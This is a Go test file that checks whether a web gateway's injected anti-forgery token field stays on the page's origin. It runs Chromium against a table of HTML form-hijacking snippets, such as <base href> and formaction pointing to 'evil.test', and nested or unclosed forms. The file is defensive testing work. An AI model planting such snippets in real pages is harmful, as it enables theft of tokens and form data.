package gateway_test

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/forgeproof/forgeproof/cmd/forgeproof/internal/browser"
	"github.com/forgeproof/forgeproof/cmd/forgeproof/internal/gateway"
	"github.com/forgeproof/forgeproof/internal/testenv"
)

// injectionCases are pages on which a form could send the token field
// elsewhere than the page's origin, or by GET, or on which a naive
// injection would break the page. Each has a button #go; sentTo is where
// Chromium sends the form ("bank" for the gateway, "evil" for the other
// site), and field whether the token must arrive with it.
var injectionCases = []struct {
	name, body string
	csp        string // the backend's own Content-Security-Policy, if any
	sentTo     string
	field      bool
}{
	{"same-origin POST form (control)", `<form method=post action="/submit"><button id=go>go</button></form>`, "", "bank", true},
	// The gateway's default CSP (base-uri 'self') makes Chromium ignore a
	// <base> elsewhere.
	{"base href elsewhere, default CSP", `<base href="http://evil.test/"><form method=post action="submit"><button id=go>go</button></form>`, "", "bank", true},
	{"base href elsewhere, backend's CSP", `<base href="http://evil.test/"><form method=post action="submit"><button id=go>go</button></form>`, "img-src 'self'", "evil", false},
	{"base href after the form, backend's CSP", `<form method=post action="submit"><button id=go>go</button></form><base href="http://evil.test/">`, "img-src 'self'", "evil", false},
	{"formaction elsewhere", `<form method=post action="/submit"><button id=go formaction="http://evil.test/submit">go</button></form>`, "", "evil", false},
	{"formmethod get", `<form method=post action="/submit"><button id=go formmethod=get>go</button></form>`, "", "bank", false},
	{"nested form elsewhere", `<form method=post action="/submit"><form method=post action="http://evil.test/submit"><button id=go>go</button></form>`, "", "bank", true},
	{"form elsewhere around a nested one", `<form method=post action="http://evil.test/submit"><form method=post action="/submit"><button id=go>go</button></form>`, "", "evil", false},
	{"unclosed form elsewhere", `<form method=post action="http://evil.test/submit"><input name=a value=1><button id=go>go</button>`, "", "evil", false},
	{"legacy script comment", `<script><!-- document.write("<script>window.a=1<\/script><form method=post></form>") --></script><script>window.ok = 1</script><form method=post action="/submit"><button id=go>go</button></form>`, "", "bank", true},
}

// TestInjectionInChromium serves each injection case through the gateway
// (HTML injection on by default, the backend sending no CSP) and submits
// its form in Chromium with the client script disabled, so that only the
// injected field can carry the token: the field reaches the gateway's
// origin by POST where the case says so, and never reaches the other site
// or a URL.
func TestInjectionInChromium(t *testing.T) {
	testenv.Chromium(t)
	var mu sync.Mutex
	type hit struct{ host, method, uri, body string }
	var hits []hit
	record := func(host string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			b, _ := io.ReadAll(r.Body)
			mu.Lock()
			hits = append(hits, hit{host, r.Method, r.RequestURI, string(b)})
			mu.Unlock()
			w.Header().Set("Content-Type", "text/plain")
			io.WriteString(w, "received")
		}
	}
	evil := httptest.NewServer(record("evil"))
	defer evil.Close()
	var page, csp string
	submit := record("bank")
	e := start(t, gateway.Options{}, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/page" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			mu.Lock()
			body, policy := page, csp
			mu.Unlock()
			if policy != "" {
				w.Header().Set("Content-Security-Policy", policy)
			}
			io.WriteString(w, "<!DOCTYPE html><html><head><title>case</title></head><body>"+body+"</body></html>")
			return
		}
		submit(w, r)
	}))
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	b, err := browser.Launch(ctx, browser.Options{
		Hosts: map[string]string{
			"bank.test": strings.TrimPrefix(e.gw.URL, "http://"),
			"evil.test": strings.TrimPrefix(evil.URL, "http://"),
		},
		// Without the client script, only the injected field carries the
		// token.
		Flags: map[string]any{"blink-settings": "scriptEnabled=false"},
	})
	cancel()
	if err != nil {
		t.Fatal(err)
	}
	defer b.Close()

	for _, tc := range injectionCases {
		t.Run(tc.name, func(t *testing.T) {
			mu.Lock()
			page, csp, hits = tc.body, tc.csp, nil
			mu.Unlock()
			prof, err := b.NewProfile()
			if err != nil {
				t.Fatal(err)
			}
			defer prof.Close()
			tab := prof.Tab()
			if code, err := tab.Navigate("http://bank.test/page", 10*time.Second); err != nil || code != 200 {
				t.Fatalf("page: %d %v", code, err)
			}
			// DevTools evaluation runs even with page scripts disabled.
			if err := tab.Eval(`document.getElementById("go").click()`, nil, 5*time.Second); err != nil {
				t.Fatal(err)
			}
			var got hit
			err = browser.Until(10*time.Second, func() (bool, error) {
				mu.Lock()
				defer mu.Unlock()
				for _, h := range hits {
					if h.uri != "/page" && h.uri != "/favicon.ico" {
						got = h
						return true, nil
					}
				}
				return false, nil
			})
			if err != nil {
				t.Fatalf("the form was not submitted")
			}
			carries := strings.Contains(got.body, "forgeproof_token=") || strings.Contains(got.uri, "forgeproof_token")
			if got.host != tc.sentTo {
				t.Errorf("form sent to %s, want %s", got.host, tc.sentTo)
			}
			if carries != tc.field {
				t.Errorf("%s %s %s: token field sent = %v, want %v (body %q)", got.host, got.method, got.uri, carries, tc.field, got.body)
			}
			if carries && (got.host != "bank" || got.method != http.MethodPost || strings.Contains(got.uri, "forgeproof_token")) {
				t.Errorf("the token left by %s %s to %s", got.method, got.uri, got.host)
			}
		})
	}
}
